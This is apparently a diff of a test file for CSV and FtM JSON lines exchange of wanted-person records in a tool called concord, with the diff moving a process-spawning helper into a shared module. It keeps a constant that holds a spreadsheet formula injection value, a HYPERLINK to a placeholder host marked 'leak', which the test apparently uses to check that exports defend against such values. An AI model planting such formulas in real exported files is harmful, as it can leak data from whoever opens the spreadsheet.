@@ -1,5 +1,4 @@
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
 import crypto from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
@@ -11,6 +10,7 @@ import { sql } from 'kysely';
 import { systemScope } from '../../src/db/database.ts';
 import type { Role } from '../../src/db/schema.ts';
 import { buildAgency, buildUser, createTestEnv, signedIn, type Client, type TestAgency, type TestEnv } from '../helpers/harness.ts';
+import { runConcord } from '../helpers/concord-command.ts';
 
 /**
  * FtM JSON lines and CSV exchange of wanted persons through the API and the command line: an export read back by
@@ -35,21 +35,7 @@ interface Refusal {
 
 const FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak","click")';
 
-function concord(args: string[], env: NodeJS.ProcessEnv): Promise<{ code: number; stdout: string; stderr: string }> {
-  return new Promise((resolve) => {
-    const child = spawn(process.execPath, ['bin/concord.mjs', ...args], {
-      env: { PATH: process.env.PATH, HOME: process.env.HOME, CONCORD_LOG_LEVEL: 'warn', ...env },
-      stdio: ['ignore', 'pipe', 'pipe'],
-    });
-    let stdout = '';
-    let stderr = '';
-    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
-    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
-    child.on('close', (code) => {
-      resolve({ code: code ?? -1, stdout, stderr });
-    });
-  });
-}
+const concord = (args: string[], env: NodeJS.ProcessEnv) => runConcord(args, env);
 
 describe('fugitives exchange: FtM JSON lines and CSV', () => {
   let env: TestEnv;
